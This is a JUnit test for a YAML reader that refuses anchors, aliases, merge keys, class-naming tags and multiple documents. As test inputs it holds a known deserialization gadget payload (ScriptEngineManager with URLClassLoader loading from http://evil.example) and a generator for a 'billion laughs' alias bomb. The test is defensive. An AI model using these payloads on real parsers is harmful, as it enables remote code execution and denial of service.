package dev.paperlist.hostile;

import dev.paperlist.ExitCode;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * YAML features a paper list does not need and that make a file unsafe (alias expansion), ambiguous
 * (merge keys, several documents) or executable elsewhere (tags naming classes) are refused where they
 * are written, before anything is built from them. Guard: {@code YamlReader}, on every node and key.
 */
@DisplayName("anchors, aliases, merge keys, tags, several documents, empty files")
class UnsafeYamlFeaturesTest {
    static final String HEAD = "sections:\n  - title: S\n    papers:\n      - name: P\n        title: T\n";

    @TempDir Path dir;

    static Stream<Arguments> cases() {
        return Stream.of(
                Arguments.of("anchor on a list", "sections: &s []\n",
                        "papers.yaml:1:11: YAML anchors ('&s') are not supported"),
                Arguments.of("anchor on a text value", HEAD + "        venue: &v ICLR\n      - name: Q\n        title: *v\n",
                        "papers.yaml:6:16: YAML anchors ('&v') are not supported"),
                Arguments.of("alias", "sections:\n  - title: S\n    papers: *p\n",
                        "papers.yaml:3:13: YAML aliases ('*p') are not supported; write the value out"),
                Arguments.of("billion laughs, short", "a: &a [x, x]\nb: &b [*a, *a]\nsections: [*b]\n",
                        "papers.yaml:1:4: YAML anchors ('&a') are not supported"),
                Arguments.of("billion laughs, nine levels", billionLaughs(),
                        "papers.yaml:1:5: YAML anchors ('&a') are not supported"),
                Arguments.of("merge key", "sections:\n  - <<: {title: S}\n",
                        "papers.yaml:2:5: YAML merge keys ('<<') are not supported; write the keys out"),
                Arguments.of("class-naming tag", HEAD + "        venue: !!javax.script.ScriptEngineManager x\n",
                        "papers.yaml:6:16: YAML tags ('tag:yaml.org,2002:javax.script.ScriptEngineManager') are not supported; quote the value instead"),
                Arguments.of("class-naming tag on a list",
                        "sections: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]\n",
                        "papers.yaml:1:11: YAML tags ('tag:yaml.org,2002:javax.script.ScriptEngineManager') are not supported; quote the value instead"),
                Arguments.of("local tag", HEAD + "        venue: !foo x\n",
                        "papers.yaml:6:16: YAML tags ('foo') are not supported; quote the value instead"),
                Arguments.of("standard tag", HEAD + "        venue: !!str 012\n",
                        "papers.yaml:6:16: YAML tags ('tag:yaml.org,2002:str') are not supported; quote the value instead"),
                Arguments.of("binary", HEAD + "        venue: !!binary aGVsbG8=\n",
                        "papers.yaml:6:16: YAML tags ('tag:yaml.org,2002:binary') are not supported; quote the value instead"),
                Arguments.of("tag on a mapping's first key", "!!str sections: []\n",
                        "papers.yaml:1:1: YAML tags ('tag:yaml.org,2002:str') are not supported; quote the value instead"),
                Arguments.of("complex key", "? [a]\n: b\n",
                        "papers.yaml:1:4: YAML error: a key must be text, not a list or a mapping"),
                Arguments.of("two documents", "sections: []\n---\nsections: []\n",
                        "papers.yaml:3:1: a second YAML document; papers.yaml must hold exactly one"),
                Arguments.of("a document end, then another", HEAD + "...\n---\n" + HEAD,
                        "papers.yaml:8:1: a second YAML document; papers.yaml must hold exactly one"),
                Arguments.of("empty file", "",
                        "papers.yaml:1:1: the file is empty; a catalogue starts with 'sections:'"),
                Arguments.of("only blank lines", "  \n\n   \n",
                        "papers.yaml:1:1: the file is empty; a catalogue starts with 'sections:'"),
                Arguments.of("only comments", "# nothing yet\n",
                        "papers.yaml:1:1: the file has only comments; a catalogue starts with 'sections:'"),
                Arguments.of("only a document marker", "---\n",
                        "papers.yaml:2:1: the catalogue must be a mapping of keys to values, not a text value"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void refusedWithItsPositionAndNothingWritten(String name, String yaml, String message) {
        Workspace w = Workspace.rendered(dir).write("papers.yaml", yaml);
        w.assertRefused(ExitCode.INVALID_INPUT, message, "render");
    }

    // Nine levels of nine aliases: 387,420,489 strings if it were ever expanded.
    private static String billionLaughs() {
        StringBuilder yaml = new StringBuilder("a0: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int level = 1; level < 9; level++) {
            yaml.append('a').append(level).append(": &a").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append("*a").append(level == 1 ? "" : String.valueOf(level - 1));
            }
            yaml.append("]\n");
        }
        return yaml.append("sections: [*a8]\n").toString();
    }
}
